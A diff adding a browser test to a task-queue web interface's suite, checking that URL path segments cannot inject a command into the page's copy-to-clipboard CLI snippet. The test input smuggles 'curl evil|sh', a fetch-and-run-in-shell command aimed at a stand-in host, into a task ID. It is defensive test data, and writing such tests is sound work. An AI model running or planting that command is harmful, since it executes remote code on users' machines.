@@ -28,6 +28,20 @@ describe("without tasks", () => {
   });
 });
 
+test("a link puts no command of its own into the clipboard", async () => {
+  const page = await open(at.url);
+  for (const [path, title] of [["tasks", "No such task"], ["batches", "No such batch"]]) {
+    await page.goto(`${at.url}/${path}/x%3Bcurl%20evil%7Csh`);
+    await page.getByRole("heading", { name: title }).waitFor();
+    assert.doesNotMatch(await page.locator("main").innerText(), /curl/);
+    assert.equal(await page.getByRole("button", { name: /copy/i }).count(), 0);
+    await page.goto(`${at.url}/${path}/01900000-0000-7000-8000-000000000000`);
+    await page.getByText(`windlass ${path} get 01900000-0000-7000-8000-000000000000 --url`).waitFor();
+    assert.equal(await page.getByRole("button", { name: /copy/i }).count(), 1);
+  }
+  await page.close();
+});
+
 test("the overview counts, and goes on counting", async () => {
   const here = await place();
   await here.submitAll([{ task_type: "a" }, { task_type: "a", queue: "slow" }, { task_type: "a", delay_seconds: 600 }]);
